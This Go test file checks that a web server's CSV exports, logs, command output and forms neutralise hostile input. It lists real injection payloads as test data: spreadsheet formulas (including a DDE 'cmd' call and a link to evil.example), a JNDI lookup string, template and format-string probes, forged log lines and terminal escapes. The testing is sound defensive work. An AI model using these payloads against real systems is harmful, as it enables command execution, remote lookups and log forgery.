package binary

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"
)

// formulas are texts that a spreadsheet would run.
var formulas = []string{"=1+1", "+1+1", "-1+1", "@SUM(1)", `=HYPERLINK("https://evil.example","x")`, "=cmd|' /C calc'!A0", ` =1+1`, `"=1+1`, "'=1+1", "＝1+1", "－1", "＋1", "＠x", "|x", "%x"}

// hostile are texts that write elsewhere than in their own line.
var hostile = []string{"a\r\nFORGED level=ERROR", "a\nFORGED", "\x1b[2J\x1b[31mFORGED", "\x1b]0;FORGED\x07", "\x9b31mFORGED", "\u202eDEGROF", "\u2066x\u2069", "a\u2028FORGED", "\x00FORGED", "\x7f\x08\x08", "%0d%0aFORGED", "\xff\xfe", "${jndi:ldap://evil.example/a}", "{{7*7}}", "%s%n%x"}

var injection = family{"CSV and log injection", []attack{
	{id: "LO-06/n", requirement: "No cell of a list of users is a formula.", on: decorated, try: func(t *T) string {
		boss := t.signedIn(t.admin())
		for i, f := range formulas {
			boss.copy().post("/admin/users/new", "username", fmt.Sprint("formula", i), "name", f, "email", fmt.Sprintf("=%d+a@example.org", i), "role", "user", "first_sign_in", "link")
		}
		t.done(boss.copy().post("/admin/groups/new", "name", "-2-3", "label", "=1+1"))
		t.done(boss.copy().post("/admin/groups/-2-3/members", "user", t.id(&person{Name: "formula0"}), "action", "add", "confirm", "1", "version", "1"))
		cells := t.plain("users.csv", boss.get("/admin/users.csv").Body) + t.plain("export users", t.command("export", "users"))
		t.holds(cells > 200, "%d cells", cells)
		return fmt.Sprintf("%d names, addresses and a group that begin like formulas: none does in the file of the page or of the command.", len(formulas))
	}},
	{id: "LO-06/o", requirement: "No cell of the audit log is a formula, whoever filled it.", on: decorated, try: func(t *T) string {
		boss, p := t.signedIn(t.admin()), t.user()
		for _, f := range formulas {
			b := t.browser()
			b.send(b.request(http.MethodPost, "/login", "username", f, "password", "x").set("User-Agent", f).set("Referer", f).set("X-Request-Id", f))
			boss.copy().post(t.about(p)+"/sign-out", "reason", f)
		}
		b := t.browser()
		b.agent = formulas[4]
		b.signIn(p)
		n := t.plain("audit.csv", boss.get("/admin/audit.csv").Body) + t.plain("export audit", t.command("export", "audit"))
		t.holds(n > 200, "%d cells", n)
		return fmt.Sprintf("%d reasons, browsers and typed names that begin like formulas: none does in the file of the page or of the command.", len(formulas))
	}},
	{id: "LO-06/p", requirement: "No cell of what people ask for help with is a formula.", on: decorated, try: func(t *T) string {
		boss := t.signedIn(t.admin())
		for range 3 {
			t.browser().password(t.user()).post("/login/lost-phone", "message", "=1+1 @SUM -cmd +phone telefon telefon", "contact", "=1+1")
		}
		t.plain("words.csv", boss.get("/admin/requests/words.csv?days=30").Body)
		t.holds(boss.Status == 200, "%d", boss.Status)
		return "3 requests with formulas: no cell begins like one."
	}},
	{id: "LO-05/n", requirement: "One event is one line of the log, whatever somebody types or sends.", on: decorated, try: func(t *T) string {
		n := 0
		for _, h := range hostile {
			for _, field := range []string{"User-Agent", "Referer", "X-Request-Id", "X-Forwarded-For", "X-Forwarded-Host", "Origin", "Accept-Language", "Forwarded"} {
				b := t.browser()
				b.send(b.request(http.MethodPost, "/login/cancel").set(field, strings.NewReplacer("\r", "", "\n", " ").Replace(h)))
				n++
			}
			b := t.browser()
			b.post("/login", "username", h, "password", "x")
			b.get("/" + url.PathEscape(h))
			b.get("/login?next=" + url.QueryEscape(h))
			b.send(b.request(http.MethodGet, "/login").set("Host", url.PathEscape(h)+".example"))
			n += 4
		}
		for line := range strings.Lines(t.logged()) {
			t.holds(json.Valid([]byte(line)), "a line is no JSON: %.200q", line)
			t.holds(!odd(strings.TrimSuffix(line, "\n")), "a line has a character of a terminal: %.200q", line)
		}
		return fmt.Sprintf("%d requests with line breaks, escapes of terminals and bidirectional characters: each line is one of JSON, and has none.", n)
	}},
	{id: "LO-05/o", requirement: "The same holds for a log that is text.", on: textLog, try: func(t *T) string {
		for _, h := range hostile {
			b := t.browser()
			b.send(b.request(http.MethodPost, "/login", "username", h, "password", "x").set("User-Agent", strings.NewReplacer("\r", "", "\n", " ").Replace(h)))
			b.get("/" + url.PathEscape(h))
			b.send(b.request(http.MethodGet, "/login").set("Host", url.PathEscape(h)+".example"))
		}
		for line := range strings.Lines(t.logged()) {
			t.holds(strings.HasPrefix(line, "time=") || strings.Contains(line[:min(len(line), 40)], "INF") || !strings.HasPrefix(line, "FORGED"), "a line is not ours: %.200q", line)
			t.holds(!odd(strings.TrimSuffix(line, "\n")) && !strings.HasPrefix(line, "FORGED"), "a line has a character of a terminal: %.200q", line)
		}
		return fmt.Sprintf("%d requests: each line is one of ours, and has none of a terminal's characters.", 3*len(hostile))
	}},
	{id: "LO-05/p", requirement: "What commands print about others' words moves no terminal.", on: decorated, try: func(t *T) string {
		p := t.user()
		b := t.browser()
		b.agent = "\u009b31m\u202eFORGED"
		b.signIn(p)
		path := filepath.Join(t.TempDir(), "x.csv")
		n := 0
		for _, h := range []string{hostile[0], hostile[2], hostile[4], hostile[5], hostile[7]} {
			file := "username,name,email,role,groups,password_hash\n\"" + strings.ReplaceAll(h, `"`, "") + "\",\"" + h + "\",\"" + h + "\",\"" + h + "\",\"" + h + "\",\"" + h + "\"\n"
			t.must(os.WriteFile(path, []byte(file), 0o600))
			for _, args := range [][]string{{"import", path}, {"user", "show", strings.ReplaceAll(h, "\x00", "")}, {"group", "add", strings.ReplaceAll(h, "\x00", "")}, {"app", "add", strings.ReplaceAll(h, "\x00", ""), "--name", "x", "--host", "x"}, {strings.ReplaceAll(h, "\x00", "")}, {"events", "read", strings.ReplaceAll(h, "\x00", "")}} {
				out, err := t.server.Run("", args...)
				said := out + fmt.Sprint(err)
				t.holds(!odd(strings.NewReplacer("\n", "", "\t", "").Replace(said[strings.Index(said, ": ")+1:])), "%q prints %.200q", args, said)
				n++
			}
		}
		for _, args := range [][]string{{"user", "show", p.Name}, {"user", "list"}, {"user", "explain", p.Name}, {"export", "audit", "--format", "jsonl"}, {"export", "audit"}} {
			out, _ := t.server.Run("", args...)
			t.holds(!odd(strings.NewReplacer("\n", "", "\r", "", "\ufeff", "").Replace(out)), "%q prints a character of a terminal", args)
			n++
		}
		return fmt.Sprintf("%d commands about hostile names, files and browsers: none prints a control or bidirectional character.", n)
	}},
	{id: "WE-12/n", requirement: "No name or label takes a control or bidirectional character.", on: decorated, try: func(t *T) string {
		boss, p := t.signedIn(t.admin()), t.user()
		hers := t.signedIn(p)
		n := 0
		for _, h := range hostile {
			if !odd(h) {
				continue
			}
			for what, got := range map[string]Answer{
				"my name": hers.copy().post("/profile/edit", "name", h, "email", p.Email), "a user's name": boss.copy().post("/admin/users/new", "username", "odd"+t.tag(), "name", h, "email", "", "role", "user", "first_sign_in", "link"), "a username": boss.copy().post("/admin/users/new", "username", h, "name", "", "email", "", "role", "user", "first_sign_in", "link"),
				"an address": boss.copy().post("/admin/users/new", "username", "odd"+t.tag(), "name", "", "email", h+"@example.org", "role", "user", "first_sign_in", "link"), "a label": boss.copy().post("/admin/groups/new", "name", "odd-"+t.tag(), "label", h), "an application": t.addApplication(boss, "odd-"+t.tag(), "name", h, "host", "odd-"+t.tag()+".example"), "a stream": boss.copy().post("/admin/streams/new", "kind", "file", "name", h, "content", "full"), "a search": boss.copy().get("/admin/groups/" + url.PathEscape(h)),
			} {
				t.holds(got.Status >= 400 && got.Status < 500, "%s, %q: %d", what, h, got.Status)
				n++
			}
		}
		return fmt.Sprintf("%d forms with such a character in one field: refused.", n)
	}},
}}

func TestInjection(t *testing.T) { run(t, &injection) }

var (
	// decorated is a server whose people and texts are as strange as they may be.
	decorated = &house{name: "decorated", base: proxied.base, flags: proxied.flags, small: true}
	textLog   = &house{name: "text log", empty: true, base: proxied.base, flags: append([]string{"--log-format", "text"}, proxied.flags...)}
)

// odd reports whether a text has a control or bidirectional character, or one that ends a line.
func odd(s string) bool {
	return strings.ContainsFunc(s, func(r rune) bool {
		return unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) || r == '\u2028' || r == '\u2029'
	})
}

// plain reads a CSV file and fails the attack where a cell would be run; it returns how many cells there are.
func (t *T) plain(what, text string) (n int) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(text, "\ufeff"))).ReadAll()
	t.holds(err == nil, "%s: %v", what, err)
	for _, row := range rows {
		for _, cell := range row {
			n++
			begin := strings.TrimLeft(cell, " \"")
			t.holds(begin == "" || !strings.ContainsAny(begin[:1], "=+-@\t\r\x00") && !strings.HasPrefix(begin, "＝") && !strings.HasPrefix(begin, "＋") && !strings.HasPrefix(begin, "－") && !strings.HasPrefix(begin, "＠"), "%s: the cell %.60q", what, cell)
		}
	}
	return n
}
